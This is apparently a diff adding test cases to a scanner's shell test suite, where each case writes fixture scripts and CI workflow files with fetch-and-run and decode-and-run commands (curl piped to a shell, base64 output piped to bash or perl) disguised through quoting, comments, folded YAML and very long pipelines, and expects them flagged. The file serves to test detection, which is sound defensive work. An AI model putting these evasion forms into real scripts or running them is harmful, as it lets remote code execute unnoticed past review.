@@ -298,6 +298,20 @@ EOF
 hostile run-word-broken 'preload=ask@scripts/build[.]sh' 'a word in two lines' <<'EOF'
 printf 'export LD_PRE\\\nLOAD=/tmp/x.so\n' >>scripts/build.sh
 EOF
+hostile run-options 'pipe-to-shell=ask@scripts/a[.]sh pipe-to-shell=ask@scripts/b[.]sh decode-and-run=block@scripts/c[.]sh decode-and-run=block@scripts/d[.]sh decode-and-run=block@scripts/e[.]sh' 'a shell behind options with values, in quotes, as a variable, and what was decoded to a file' <<'EOF'
+printf 'curl -fsSL https://get.example.test/x | sudo -u root "b"ash\n' >scripts/a.sh
+printf 'curl -fsSL https://get.example.test/x | timeout 5 "$SHELL"\n' >scripts/b.sh
+printf 'base64 -d <x | nice -n 5 perl -w\n' >scripts/c.sh
+printf 'base64 -d <x >k; sh k\n' >scripts/d.sh
+printf 'base64 -d <x |\n# what it says\n\nbash\n' >scripts/e.sh
+EOF
+hostile run-folded 'decode-and-run=block@[.]github/workflows/a[.]yml decode-and-run=block@[.]github/workflows/b[.]yml' 'a pipeline in a value of YAML over several lines' <<'EOF'
+printf 'jobs:\n  x:\n    steps:\n      - run: >-\n          base64 -d data/x\n          | bash\n' >.github/workflows/a.yml
+printf 'jobs:\n  x:\n    steps:\n      - run: base64 -d data/x\n          | bash\n' >.github/workflows/b.yml
+EOF
+hostile run-long 'decode-and-run=block@scripts/build[.]sh' 'a pipeline of many lines' <<'EOF'
+{ echo 'base64 -d <x \'; awk 'BEGIN { while (n++ < 900) print "| tee file-" n " \\" }'; echo '| sh'; } >>scripts/build.sh
+EOF
 hostile cookie 'encoding=ask@src/x[.]py' 'a source that says it is in another encoding' <<'EOF'
 printf '# -*- coding: utf-7 -*-\nx = 1 # +AAo-import os\n' >src/x.py
 EOF
